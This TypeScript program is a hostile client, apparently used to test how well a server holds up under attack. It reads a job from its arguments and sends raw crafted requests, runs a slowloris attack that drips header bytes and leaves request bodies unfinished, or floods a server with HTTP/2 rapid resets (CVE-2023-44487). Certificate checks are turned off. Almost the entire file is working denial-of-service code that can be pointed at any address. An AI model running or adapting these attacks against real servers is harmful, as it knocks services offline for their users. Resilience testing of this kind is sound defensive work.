// A visitor with bad intentions, as a program of its own: it is run inside a visitor's network, reads one job as JSON
// from its arguments and prints what came of it. Node alone runs it.
import { once } from "node:events";
import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";

export interface Ask {
  readonly port: number;
  /** The name to shake hands by; null speaks plain text. */
  readonly name: string | null;
  /** The bytes of the request, one character each. */
  readonly request: string;
}

export type Job =
  /** Sends each request on a connection of its own; the answers are what came until the server closed, or null without a byte. */
  | { readonly kind: "ask"; readonly address: string; readonly asks: readonly Ask[] }
  /** Opens connections that never finish their request, and stays until the server has ended all of them. */
  | { readonly kind: "slow"; readonly address: string; readonly name: string; readonly heads: number; readonly bodies: number }
  /** Opens requests on one HTTP/2 connection and resets each at once (CVE-2023-44487), until the server has enough. */
  | { readonly kind: "reset"; readonly address: string; readonly name: string; readonly streams: number };

export interface Outcomes {
  readonly ask: readonly (string | null)[];
  /** How many connections there were, and how many the server ended. */
  readonly slow: { readonly opened: number; readonly ended: number };
  readonly reset: { readonly opened: number };
}

const PATIENCE_MILLISECONDS = 40_000;

function open(address: string, port: number, name: string | null): Socket {
  const socket = name === null ? connect(port, address) : connectTls({ host: address, port, servername: name, rejectUnauthorized: false });
  return socket.on("error", () => socket.destroy());
}

async function ask(address: string, { port, name, request }: Ask): Promise<string | null> {
  const socket = open(address, port, name);
  socket.once(name === null ? "connect" : "secureConnect", () => socket.write(Buffer.from(request, "latin1")));
  socket.setTimeout(5000, () => socket.destroy());
  let answer = "";
  socket.on("data", (part: Buffer) => { answer += part.toString("latin1"); });
  await new Promise((resolve) => socket.once("close", resolve));
  return answer === "" ? null : answer;
}

async function slow({ address, name, heads, bodies }: Extract<Job, { kind: "slow" }>): Promise<Outcomes["slow"]> {
  const begin = { head: `GET / HTTP/1.1\r\nHost: ${name}\r\nX-A: `, body: `POST /v1/chat/completions HTTP/1.1\r\nHost: ${name}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{` };
  let opened = 0;
  let ended = 0;
  const connections = Array.from({ length: heads + bodies }, async (_, index) => {
    const socket = open(address, 443, name);
    await new Promise((resolve) => socket.once("secureConnect", resolve).once("close", resolve));
    if (socket.destroyed) return;
    opened += 1;
    socket.resume().write(index < heads ? begin.head : begin.body);
    // One more letter of the header now and then is what keeps lesser servers waiting.
    const drip = index < heads ? setInterval(() => { socket.write("a"); }, 1000) : undefined;
    await new Promise((resolve) => socket.once("close", resolve));
    clearInterval(drip);
    ended += 1;
  });
  process.stderr.write("under way\n");
  await Promise.all(connections);
  return { opened, ended };
}

async function reset({ address, name, streams }: Extract<Job, { kind: "reset" }>): Promise<Outcomes["reset"]> {
  const session = connectHttp2(`https://${address}`, { servername: name, rejectUnauthorized: false, headers: { host: name } } as object);
  session.on("error", () => { session.destroy(); });
  await Promise.race([once(session, "connect"), once(session, "close")]);
  let opened = 0;
  while (opened < streams && !session.closed && !session.destroyed) {
    const stream = session.request({ ":path": "/", ":authority": name });
    stream.on("error", () => undefined);
    stream.close(8);
    opened += 1;
    if (opened % 50 === 0) await new Promise((resolve) => { setTimeout(resolve, 5); });
  }
  session.destroy();
  return { opened };
}

if (import.meta.filename === process.argv[1]) {
  const job = JSON.parse(process.argv[2] ?? "") as Job;
  setTimeout(() => process.exit(3), PATIENCE_MILLISECONDS).unref();
  const outcome = job.kind === "ask" ? await Promise.all(job.asks.map((each) => ask(job.address, each))) : job.kind === "slow" ? await slow(job) : await reset(job);
  process.stdout.write(JSON.stringify(outcome));
}
